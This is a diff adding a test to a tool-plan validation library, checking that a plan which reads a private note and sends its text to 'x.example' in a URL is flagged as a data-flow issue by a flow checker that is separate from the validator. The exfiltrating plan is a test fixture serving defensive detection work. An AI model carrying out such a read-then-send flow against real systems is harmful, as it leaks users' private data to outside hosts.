@@ -14,6 +14,7 @@ from tooldag.issues import Issue
 from tooldag.plan import Plan
 from tooldag.plan.parse import parse_plan
 from tooldag.registry import ToolRegistry, tool
+from tooldag.validate.flows import flow_issues
 from tooldag.validate.validator import ISSUE_CODES, check_plan, validate
 
 WEATHER = {"id": "weather", "tool": "get_weather", "args": {"location": "London"}}
@@ -292,6 +293,28 @@ def test_empty_plan(weather_registry: ToolRegistry) -> None:
     issue = only(validate(Plan(), weather_registry), "empty_plan")
     assert issue.hint
     assert validate(Plan(answer="Nothing to do."), weather_registry) == []
+
+
+def test_data_flow_is_a_finding_of_flows_that_validate_never_returns() -> None:
+    @tool(side_effects=False, reads_private=True)
+    def read_note(name: str) -> dict[str, str]:
+        """Read a note."""
+        return {"text": name}
+
+    @tool(side_effects=False, egress=["url"])
+    def fetch(url: str) -> dict[str, str]:
+        """Fetch a URL."""
+        return {"text": url}
+
+    registry = ToolRegistry([read_note, fetch])
+    plan = plan_of(
+        {"id": "n", "tool": "read_note", "args": {"name": "diary"}},
+        {"id": "g", "tool": "fetch", "args": {"url": "https://x.example/?${n.text}"}},
+    )
+    assert validate(plan, registry) == []  # valid: the planner is not asked again for a flow
+    issue = only(flow_issues(plan, registry), "data_flow")
+    assert (issue.step, issue.path) == ("g", "steps[1].args.url")
+    assert 'read_note(name="diary") -> fetch.url' in issue.message
 
 
 def test_every_issue_code_has_a_test_here() -> None:
